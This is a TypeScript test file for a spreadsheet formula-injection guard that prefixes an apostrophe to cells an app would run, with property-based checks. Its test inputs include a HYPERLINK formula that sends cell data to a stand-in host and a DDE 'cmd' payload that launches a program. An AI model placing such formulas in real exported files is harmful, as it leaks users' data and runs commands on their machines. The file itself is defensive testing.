import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '../../shared/formula-guard';

describe('guardFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"CV")', `'=HYPERLINK("http://evil.example/?"&A1,"CV")`],
    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ["'=already quoted", `''=already quoted`],
  ])('puts an apostrophe before %j', (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
  });

  it.each(['+91 98765 43210', '+1 (415) 555-0100', '-2.5', '-', 'Asha Rao', "O'Brien", "'quoted", '', 'a=b'])(
    'leaves %j alone: numbers, phone numbers and text no app runs',
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  const formulaStart = /^[=+\-@\t\r]/;
  const plainNumber = /^[+-]?[\d ().\/-]*$/;
  const cellText = fc.oneof(
    fc.string(),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''"), fc.string()).map(([start, rest]) => start + rest),
  );

  it('is undone exactly by unguardFormula, whatever the text', () => {
    fc.assert(fc.property(cellText, (text) => unguardFormula(guardFormula(text)) === text), { numRuns: 5000 });
  });

  it('never leaves a cell a spreadsheet app would run, unless it is a plain number', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const guarded = guardFormula(text);
        return !formulaStart.test(guarded) || plainNumber.test(guarded);
      }),
      { numRuns: 5000 },
    );
  });
});
